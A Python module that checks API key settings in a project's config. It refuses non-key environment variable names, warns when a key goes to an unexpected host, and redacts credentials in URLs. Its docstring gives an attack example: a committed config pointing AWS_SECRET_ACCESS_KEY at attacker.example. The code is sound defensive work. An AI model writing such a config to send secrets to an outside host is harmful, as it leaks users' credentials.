"""Where API keys may come from and where they may go; URLs printed without credentials.

A config file is data from the repository: whoever can commit ``baseline.yaml`` chooses
``llm.api_key_env`` and ``llm.base_url``. Without a check, ``api_key_env: AWS_SECRET_ACCESS_KEY``
(or ``HOME``, ``GITHUB_TOKEN``...) plus ``base_url: https://attacker.example/v1`` would send
that variable off the machine as a bearer token. So:

- ``check_key_env``: only key-like variable names (``*_API_KEY``, ``*_TOKEN``, ``*_KEY``) are
  read, unless the user lists the name in ``WIKIRAG_ALLOW_KEY_ENV`` (comma-separated); a
  config naming any other variable that is set is refused with a ConfigError.
- ``key_destination_warning``: a config that sends a key to a host other than the one in
  ``OPENAI_BASE_URL`` (the user's own setting) gets a warning naming both hosts.
- ``redact_url`` / ``redact_urls``: ``user:password@`` in a URL is never printed.
"""

from __future__ import annotations

import os
import re
from collections.abc import Mapping
from urllib.parse import urlsplit, urlunsplit

from engine.errors import ConfigError

ALLOW_KEY_ENV = "WIKIRAG_ALLOW_KEY_ENV"
ENV_BASE_URL = "OPENAI_BASE_URL"
_KEY_LIKE = re.compile(r"^[A-Za-z][A-Za-z0-9_]*(?:_API_KEY|_TOKEN|_KEY)$", re.IGNORECASE)
# scheme://user[:password]@host — the credentials part of any URL inside free text
_URL_CREDENTIALS = re.compile(r"(?P<scheme>\b[a-zA-Z][a-zA-Z0-9+.-]*://)[^/@\s'\"]+@")


def is_key_like(name: str) -> bool:
    return bool(_KEY_LIKE.match(name))


def check_key_env(name: str, setting: str, env: Mapping[str, str] | None = None) -> None:
    """Raise ConfigError unless ``name`` may be read as an API key (see the module docstring)."""
    environ = os.environ if env is None else env
    if not name or is_key_like(name) or not environ.get(name):
        return  # an unset variable sends nothing
    confirmed = {n.strip() for n in environ.get(ALLOW_KEY_ENV, "").split(",") if n.strip()}
    if name in confirmed:
        return
    raise ConfigError(
        f"{setting} = {name!r} does not look like an API key variable (*_API_KEY, *_TOKEN, "
        f"*_KEY): a config could use it to send any environment variable to its endpoint. "
        f"If {name} really holds the key, confirm with {ALLOW_KEY_ENV}={name}"
    )


def _host(url: str) -> str:
    try:
        return (urlsplit(url.strip()).hostname or "").lower()
    except ValueError:
        return ""


def key_destination_warning(
    setting: str, base_url: str, env: Mapping[str, str] | None = None
) -> str | None:
    """A warning when a config's ``base_url`` sends a key to a host other than the user's own
    ``OPENAI_BASE_URL``; None when they agree or there is nothing to compare with."""
    environ = os.environ if env is None else env
    mine = _host(environ.get(ENV_BASE_URL, "") or "")
    theirs = _host(base_url)
    if not mine or not theirs or mine == theirs:
        return None
    return (
        f"{setting} sends the API key to {theirs}, not to {mine} (your {ENV_BASE_URL}); "
        f"check that the config (e.g. a committed baseline.yaml) is one you trust"
    )


def redact_url(url: str) -> str:
    """``url`` without ``user:password@`` (kept as ``***@`` so it is clear something was cut)."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return redact_urls(url)
    if "@" not in parts.netloc:
        return url
    return urlunsplit(parts._replace(netloc="***@" + parts.netloc.rsplit("@", 1)[1]))


def redact_urls(text: str) -> str:
    """``text`` with the credentials of every URL in it replaced by ``***``."""
    return _URL_CREDENTIALS.sub(r"\g<scheme>***@", text)
